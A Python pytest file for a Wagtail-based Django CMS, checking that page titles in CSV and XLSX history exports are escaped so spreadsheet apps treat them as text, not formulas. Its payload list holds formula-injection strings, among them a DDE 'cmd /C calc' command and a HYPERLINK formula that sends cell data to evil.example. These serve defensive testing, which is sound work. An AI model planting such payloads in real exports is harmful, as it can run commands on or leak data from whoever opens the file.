"""Whoever is called like a formula stays a name in every export of the CMS."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.models import Page, PageLogEntry

from accounts.models import User
from accounts.roles import OWNER
from story.sheets import as_text

HISTORY = "wagtailadmin_reports:site_history"
CALC = "cmd|' /C calc'!A0"
SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
BEFORE = ["", '"', "'", " "]
PAYLOADS = [
    *(before + sign + CALC for sign in SIGNS for before in BEFORE),
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\ufeff=1+1",
    "\tname",
    "\rname",
    "\0name",
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "'\"=1+1",
]
pytestmark = pytest.mark.django_db


def exported(client: Client, name: str, kind: str) -> list[list[str]]:
    answer = client.get(reverse(name), {"export": kind})
    content = answer.getvalue()
    if kind == "csv":
        return list(csv.reader(io.StringIO(content.decode(), newline="")))
    [sheet] = load_workbook(io.BytesIO(content)).worksheets
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    assert {cell.data_type for cell in cells} <= {"s", "d", "n", "b"}
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def renamed(title: str) -> None:
    """Somebody gave a page this title, and the site's history knows."""
    page = Page.get_first_root_node()
    PageLogEntry.objects.log_action(page, "wagtail.edit", title=title)


@pytest.fixture
def olive(roles):
    user = User.objects.create_user("olive@example.com", language="en")
    user.groups.add(Group.objects.get(name=OWNER))
    client = Client()
    client.force_login(user, "django.contrib.auth.backends.ModelBackend")
    return client


def test_each_payload_becomes_text():
    assert len(PAYLOADS) >= 40
    for payload in PAYLOADS:
        assert as_text(payload).startswith("'")
        assert "\0" not in as_text(payload)


@pytest.mark.parametrize("plain", ["Anna", "anna@example.com", "A-7Q3M", "", "1 - 1"])
def test_names_stay_as_they_are(plain):
    assert as_text(plain) == plain
    assert as_text(-5) == -5


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_wagtail_s_own_reports_are_safe(olive, kind):
    for payload in PAYLOADS:
        renamed(payload)

    rows = exported(olive, HISTORY, kind)

    texts = [str(cell) for row in rows for cell in row if cell]
    assert sum(text.startswith("'") for text in texts) == len(PAYLOADS)
    assert not [text for text in texts if text[0] in "=+-@\t\r\n"]


def test_without_its_guard_a_title_would_be_a_formula(olive, monkeypatch):
    renamed("=1+1")
    monkeypatch.setattr(
        SpreadsheetExportMixin,
        "preprocess_field_value",
        lambda _self, _field, value, _format: str(value),
    )

    rows = exported(olive, HISTORY, "csv")

    assert any(cell == "=1+1" for row in rows for cell in row)
